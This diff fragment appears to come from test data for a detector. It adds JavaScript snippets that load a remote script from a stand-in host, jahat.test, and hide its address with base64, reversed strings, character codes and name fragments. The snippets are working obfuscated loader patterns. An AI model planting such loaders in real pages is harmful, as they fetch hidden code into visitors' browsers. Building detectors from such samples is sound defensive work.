@@ -587,6 +587,19 @@ WAYS = {
     f"s.src=self[['at','ob'].join('')]({b64(URL)!r})}})(document)",
     "reversed by a list of names": "var n=['\\x73\\x70\\x6c\\x69\\x74','reverse','join'];"
     + LOADED.format(f"{URL[::-1]!r}[n[0]]('')[n[1]]()[n[2]]('')"),
+    "names by a function": "var q=['pt','scri','ment','Ele','ate','cre'],z=function(a,b){return q"
+    ".slice(a,b).reverse().join('')};var s=document[z(2,6)](z(0,2));"
+    f"s.src='{URL[::-1]}'.split('').reverse().join('')",
+    "letters of another name": "var f=String.fromCharCode,"
+    + LOADED.format(f"f({codes(URL)})").removeprefix("var "),
+    "letters of another name by apply": "var f=String.fromCharCode;"
+    + LOADED.format(f"f.apply(null,[{codes(URL)}])"),
+    "an object that is handed over": f"var o={{u:'{b64(URL)}',n:1}};(function(p){{"
+    + LOADED.format("atob(p.u)")
+    + "})(o)",
+    "an object in the call": "(function(p){"
+    + LOADED.format("atob(p.u)")
+    + f"}})({{u:'{b64(URL)}'}})",
     # The owner cannot be read in the source.
     "sum": LOADED.format("'https://jahat.'+'te'+'st/a.js'"),
     "list": LOADED.format("['https:/','/jaha','t.tes','t/a.js'].join('')"),
